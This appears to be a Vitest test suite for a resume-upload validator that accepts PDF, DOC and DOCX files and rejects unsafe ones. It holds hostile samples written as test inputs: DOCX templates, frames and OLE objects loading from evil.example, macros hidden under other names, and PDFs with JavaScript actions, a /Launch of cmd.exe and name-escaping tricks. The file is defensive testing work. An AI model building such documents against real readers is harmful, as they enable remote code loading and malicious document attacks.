/// <reference types="vite/types/importMeta.d.ts" />
/** The files in documents/ were saved by the programs in their names; the other files are built here. */
import { zlibSync, strToU8, type Zippable } from 'fflate';
import { describe, expect, test } from 'vitest';
import type { ResumeExtension } from '@/shared/forms/resume';
import { inspectResume } from '../../functions/resumes/inspect';
import { problems } from '../../functions/resumes/problems';
import { bytesOf, doc, docx, docxFiles, joined, ole, pdf, zip } from './documents';

const TYPE = 'Please upload only PDF, DOC, or DOCX files.';

const inspect = (bytes: Uint8Array, extension: ResumeExtension) => inspectResume(bytes, extension);

const files = import.meta.glob<string>('./documents/*', {
  query: '?url&inline',
  import: 'default',
  eager: true,
});
const written = Object.entries(files).map(
  ([path, url]) =>
    [path.replace('./documents/', ''), Uint8Array.fromBase64(url.split(',')[1] ?? '')] as const,
);

describe('documents saved by real programs', () => {
  test('exist for each type', () => {
    const kinds = new Set(written.map(([name]) => name.split('.').pop()));
    expect(kinds).toEqual(new Set(['pdf', 'doc', 'docx']));
  });

  test.each(written)('%s is accepted', (name, bytes) => {
    const extension = name.split('.').pop() as ResumeExtension;
    expect(inspect(bytes, extension)).toBeUndefined();
  });
});

/** Returns the parts of a document whose settings have these relationships, in Word's format. */
const related = (relations: string): Zippable => ({
  'word/settings.xml': strToU8('<w:settings/>'),
  'word/_rels/settings.xml.rels': strToU8(`<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`),
});
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = 'External') =>
  `<Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="${mode}"/>`;
const template = (target: string) => related(relation(`${OFFICE}/attachedTemplate`, target));

describe('a DOCX', () => {
  test.each([
    [
      'a template on the author’s computer',
      template('file:///C:\\Users\\Elena\\Templates\\Resume%20modern.dotx'),
    ],
    ['a template on a Mac', template('file:///Users/elena/Templates/Resume.dotx')],
    ['a template with a plain path', template('C:\\Templates\\Resume.dotx')],
    ['a template in the same folder', template('Resume.dotx')],
    ['a hyperlink', related(relation(`${OFFICE}/hyperlink`, 'https://example.com/elena'))],
    ['a linked picture', related(relation(`${OFFICE}/image`, 'https://example.com/elena.png'))],
  ])('with %s is accepted', (_, parts) => {
    expect(inspect(docx(parts), 'docx')).toBeUndefined();
  });

  test.each([
    ['a server', template('https://evil.example/t.dotm')],
    ['a server without TLS', template('http://evil.example/t.dotm')],
    ['a network share', template('\\\\evil.example\\share\\t.dotm')],
    ['a network share as a URL', template('file://evil.example/share/t.dotm')],
    ['a network share with four slashes', template('file:////evil.example/share/t.dotm')],
    ['a URL with a nested scheme', template('mhtml:https://evil.example/t.dotm')],
    ['a server, written with entities', template('&#x68;ttps://evil.example/t.dotm')],
    [
      'a server, with other quotes and order',
      related(
        `<x:Relationship TargetMode='external' Target='https://evil.example/t' Type='${OFFICE}/attachedTemplate'></x:Relationship>`,
      ),
    ],
    ['a server, in a frame', related(relation(`${OFFICE}/frame`, 'https://evil.example/'))],
    ['a server, as an OLE object', related(relation(`${OFFICE}/oleObject`, 'https://evil.example/x.docx!'))],
    ['a server, as a subdocument', related(relation(`${OFFICE}/subDocument`, 'https://evil.example/x.docx'))],
  ])('that loads something from %s is rejected', (_, parts) => {
    expect(inspect(docx(parts), 'docx')).toBe(problems.remote);
  });

  const VBA = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';
  const typed = (override: string) =>
    docx({ '[Content_Types].xml': strToU8(`<Types>${override}</Types>`), 'word/notes.bin': strToU8('x') });
  test.each([
    [
      'by its relationship',
      docx({ ...related(relation(VBA, 'notes.bin', 'Internal')), 'word/notes.bin': strToU8('x') }),
    ],
    [
      'by its content type',
      typed('<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ],
    [
      'by the content type of its extension',
      typed('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ],
    [
      'by the content type of the document',
      typed(
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      ),
    ],
  ])('with macros under another name is rejected, detected %s', (_, bytes) => {
    expect(inspect(bytes, 'docx')).toBe(problems.macros);
  });

  test.each([
    ['has relationships in UTF-16', docx({ 'word/_rels/document.xml.rels': strToU8('<\0R\0e\0l\0/\0>\0') })],
    [
      'defines entities',
      docx({ 'word/_rels/document.xml.rels': strToU8('<!DOCTYPE r [<!ENTITY t "x">]><r/>') }),
    ],
    [
      'contains a part twice',
      docx({
        'word/_rels/document.xml.rels': strToU8('<r/>'),
        'word/_rels/Document.xml.rels': strToU8('<r/>'),
      }),
    ],
  ])('that %s cannot be checked, and is rejected', (_, bytes) => {
    expect(inspect(bytes, 'docx')).toBe(problems.unreadable);
  });

  test.each([
    ['a zero', '\0'],
    ['a line break', '\r\n'],
    ['eight zeros', '\0'.repeat(8)],
  ])('with %s after its end, which mail and upload programs add, is accepted', (_, rest) => {
    expect(inspect(joined(docx(), bytesOf(rest)), 'docx')).toBeUndefined();
  });

  const withComment = (comment: Uint8Array) => {
    const bytes = joined(docx(), comment);
    new DataView(bytes.buffer).setUint16(docx().length - 2, comment.length, true);
    return bytes;
  };
  test('with a comment is accepted', () => {
    expect(inspect(withComment(bytesOf('Elena')), 'docx')).toBeUndefined();
  });

  test.each([
    ['nine zeros after its end', joined(docx(), new Uint8Array(9))],
    ['a letter after its end', joined(docx(), bytesOf('x'))],
    ['a second end record after its end', joined(docx(), docx().slice(-22))],
    ['a second end record in its comment', withComment(joined(docx().slice(-22, -2), bytesOf('\x09\0')))],
    ['a truncated comment', withComment(bytesOf('Elena')).slice(0, -1)],
  ])('with %s is rejected, because programs may disagree about its contents', (_, bytes) => {
    expect(inspect(bytes, 'docx')).toBe(TYPE);
  });

  test('whose relationships decompress to too much is rejected', () => {
    const bytes = docx({ 'word/_rels/document.xml.rels': new Uint8Array(900_000) });
    expect(inspect(bytes, 'docx')).toBe(problems.unreadable);
  });
});

describe('a DOC', () => {
  const WORD_97 = '0609020000000000c000000000000046';
  const EXCEL = '2008020000000000c000000000000046';
  const withFalseRoot = (file: Uint8Array) => {
    const data = new Uint8Array(512);
    data[64] = 20;
    data[66] = 5;
    data[80] = 7;
    return joined(file, data);
  };

  test.each([
    ['has Word’s class id', ole(['1Table', 'WordDocument'], { classId: WORD_97 })],
    ['has no class id', doc()],
    ['has lowercase names', ole(['1table', 'worddocument'])],
    [
      'has an embedded spreadsheet and presentation',
      ole(['WordDocument', 'ObjectPool', '_1', 'Workbook', '_2', 'PowerPoint Document'], {
        classId: WORD_97,
        storages: ['ObjectPool', '_1', '_2'],
      }),
    ],
    ['contains data that look like a root entry', withFalseRoot(ole(['WordDocument'], { classId: WORD_97 }))],
  ])('that %s is accepted', (_, bytes) => {
    expect(inspect(bytes, 'doc')).toBeUndefined();
  });

  test.each([
    ['Macros', '_VBA_PROJECT'],
    ['Macros', 'dir'],
    ['x', 'VBA'],
    ['x', '_vba_project_cur'],
  ])('with the macro storages %s and %s is rejected', (...names) => {
    expect(inspect(ole(['1Table', 'WordDocument', ...names]), 'doc')).toBe(problems.macros);
  });

  test.each([
    ['no Word document', ole(['Contents'])],
    ['a spreadsheet’s class id', ole(['WordDocument'], { classId: EXCEL })],
    ['an email', ole(['WordDocument', '__properties_version1.0'])],
    ['a presentation', ole(['WordDocument', 'PowerPoint Document'])],
    ['a spreadsheet', ole(['WordDocument', 'workbook'])],
    [
      'a spreadsheet’s class id and storage for embedded objects',
      ole(['WordDocument', 'ObjectPool', 'Workbook'], { classId: EXCEL, storages: ['ObjectPool'] }),
    ],
  ])('that is an OLE file with %s is rejected', (_, bytes) => {
    expect(inspect(bytes, 'doc')).toBe(TYPE);
  });
});

describe('a PDF', () => {
  const objects = (text: string) => joined(pdf().slice(0, 9), bytesOf(`${text}\n`), pdf().slice(9));
  const packed = (text: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') => {
    const data = Uint8Array.from(zlibSync(strToU8(text)));
    return joined(
      pdf().slice(0, 9),
      bytesOf(`7 0 obj << ${dictionary} /Length ${data.length} >> stream\r\n`),
      data,
      bytesOf('\r\nendstream endobj\n'),
      pdf().slice(9),
    );
  };

  test.each([
    ['in a string', objects('3 0 obj (HTML/CSS/JavaScript, (/JS) \\) /Launch) endobj')],
    ['in a comment', objects('% /JavaScript /JS /Launch')],
    [
      'in an uncompressed page',
      objects('4 0 obj << /Length 44 >> stream\n(Skills: /JavaScript) Tj /JS\nendstream endobj'),
    ],
    ['as part of another name', objects('3 0 obj << /JSX 1 /LaunchPad 2 /JavaScripts 3 >> endobj')],
    ['in a compressed string', packed('8 0 (HTML/CSS/JavaScript /JS)')],
    ['in a compressed stream that is no object stream', packed('/JS', '/Filter /FlateDecode')],
  ])('with a forbidden name %s is accepted', (_, bytes) => {
    expect(inspect(bytes, 'pdf')).toBeUndefined();
  });

  const action = '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>';
  test.each([
    ['a script', objects(`3 0 obj ${action} endobj`)],
    ['a script of the document', objects('3 0 obj << /Names << /JavaScript 5 0 R >> >> endobj')],
    ['a script of a rendition', objects('3 0 obj << /S /Rendition /JS 5 0 R >> endobj')],
    ['a program', objects('3 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
    ['a script whose name is escaped', objects('3 0 obj << /S /J#61va#53cript >> endobj')],
    ['a short name that is escaped', objects('3 0 obj << /#4aS 5 0 R >> endobj')],
    ['a script type as an indirect object', objects('3 0 obj /JavaScript endobj')],
    ['a script after a string', objects(`3 0 obj (a \\( b (c) \\\\) ${action} endobj`)],
    ['a script after a comment', objects(`% a comment (with a parenthesis\n${action}`)],
    ['a script in a compressed object', packed(`8 0 ${action}`)],
    [
      'a script in a compressed object without a type',
      packed(`8 0 ${action}`, '/N 1 /First 4 /Filter /FlateDecode'),
    ],
    ['a script deep inside compressed objects', packed(`8 0 ${'<< /A (x) >> '.repeat(1000)}${action}`)],
    [
      'a script in an uncompressed object stream',
      objects(`7 0 obj << /Type /ObjStm /First 4 /Length 18 >> stream\n8 0 << /JS (x) >>\nendstream endobj`),
    ],
  ])('with %s is rejected', (_, bytes) => {
    expect(inspect(bytes, 'pdf')).toBe(problems.active);
  });

  test.each([
    ['an embedded file', objects('3 0 obj << /Type /EmbeddedFile /Length 1 >> stream\nx\nendstream endobj')],
    ['a list of embedded files', objects('3 0 obj << /Names << /EmbeddedFiles 5 0 R >> >> endobj')],
    ['an XFA form', objects('3 0 obj << /AcroForm << /XFA 5 0 R >> >> endobj')],
    ['media', objects('3 0 obj << /Subtype /RichMedia >> endobj')],
    [
      'a list of embedded files in a compressed object',
      packed('8 0 << /Names << /EmbeddedFiles 5 0 R >> >>'),
    ],
    ['an XFA form in a compressed object', packed('8 0 << /AcroForm << /#58FA 5 0 R >> >>')],
  ])('with %s is rejected', (_, bytes) => {
    expect(inspect(bytes, 'pdf')).toBe(problems.attached);
  });

  test.each([
    ['with another filter', '/Type /ObjStm /First 4 /Filter /ASCIIHexDecode'],
    ['twice', '/Type /ObjStm /First 4 /Filter [/FlateDecode /FlateDecode]'],
    ['with an indirect filter', '/Type /ObjStm /First 4 /Filter 9 0 R'],
    ['with a predictor', '/Type /ObjStm /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'],
  ])('whose objects are compressed %s cannot be checked, and is rejected', (_, dictionary) => {
    expect(inspect(packed('8 0 null', dictionary), 'pdf')).toBe(problems.unreadable);
  });

  test('whose object stream cannot be decompressed is rejected', () => {
    const bytes = objects(
      '7 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nnot deflated at all\nendstream endobj',
    );
    expect(inspect(bytes, 'pdf')).toBe(problems.unreadable);
  });

  test('whose objects decompress to too much is rejected', () => {
    const bytes = packed(' '.repeat(21 * 1024 * 1024));
    expect(bytes.length).toBeLessThan(100_000);
    expect(inspect(bytes, 'pdf')).toBe(problems.tooMuch);
  });

  const archive = zip(docxFiles);
  test.each([
    ['after it', joined(pdf(), archive)],
    ['after it, followed by more data', joined(pdf(), archive, bytesOf('\n%%EOF\n'))],
    ['inside it', objects(`4 0 obj << >> stream\n${String.fromCharCode(...archive)}\nendstream endobj`)],
  ])('that is also a zip file, %s, is rejected', (_, bytes) => {
    expect(inspect(bytes, 'pdf')).toBe(TYPE);
  });
});
